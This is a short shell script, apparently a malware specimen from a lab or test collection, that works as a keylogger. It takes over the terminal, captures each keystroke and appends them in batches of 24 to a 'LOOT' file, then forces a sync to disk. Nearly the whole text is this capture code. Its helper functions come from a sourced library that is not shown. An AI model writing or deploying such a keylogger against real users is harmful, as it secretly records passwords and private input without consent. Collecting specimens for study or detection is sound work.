# Keylogger: keys kept in memory, 24 at a time appended to the data disk and synced.
. /etc/enmei/specimens/lib.sh
buf=""
log_key() {
    buf="$buf${1:-|}"
    if [ "${#buf}" -ge 24 ]; then
        printf '%s\n' "$buf" >> "$LOOT"; sync; buf=""
    fi
}
take_tty
each_key log_key
